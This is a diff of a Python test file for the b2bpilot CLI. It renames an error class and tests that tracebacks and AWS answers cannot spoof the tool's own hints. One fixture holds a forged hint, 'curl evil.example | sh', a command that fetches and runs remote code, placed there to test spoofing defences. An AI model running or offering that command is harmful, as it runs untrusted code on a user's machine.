@@ -14,7 +14,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from b2bpilot.cli.frame.settings import Color, Format
-from b2bpilot.cli.output import Failure, Line, Output, Row
+from b2bpilot.cli.output import Line, Output, Row, ShownError
 from b2bpilot.cli.text.plain import one_line
 from tests.aws.test_answers import Answer, server
 from tests.cli.conftest import REGION, Run
@@ -91,7 +91,7 @@ def said_everywhere(output: Output) -> None:
         tell(ALL)
     with output.screen() as draw:
         draw([Line(ALL)])
-    output.fail(Failure(code="failed", message=ALL, hint=ALL, exit_code=1, details=f"Traceback\n{ALL}\n"))
+    output.fail(ShownError(code="failed", message=ALL, hint=ALL, exit_code=1, details=f"Traceback\n{ALL}\n"))
 
 
 def test_no_way_out_lets_it_through() -> None:
@@ -143,7 +143,7 @@ def test_a_tracebacks_lines_cannot_pass_for_ours() -> None:
     output = captured()
 
     forged = "ValueError: no\nhint: curl evil.example | sh\n"
-    output.fail(Failure(code="failed", message="no", hint=None, exit_code=1, details=forged))
+    output.fail(ShownError(code="failed", message="no", hint=None, exit_code=1, details=forged))
 
     assert text(output.stderr) == "  ValueError: no\n  hint: curl evil.example | sh\nerror: no\n"
 
@@ -159,7 +159,7 @@ def test_what_aws_answers_is_not_obeyed(
     monkeypatch.setenv("AWS_ACCESS_KEY_ID", "x")
     monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "y")
     with server(Answer(status=400, body=body.encode())) as url:
-        result = run("subscriptions", "-e", "staging", "--region", REGION, "--endpoint-url", url, *verbose)
+        result = run("subscribers", "-e", "staging", "--region", REGION, "--endpoint-url", url, *verbose)
 
     assert result.exit_code == 1
     assert "override\\u202e" in result.stderr
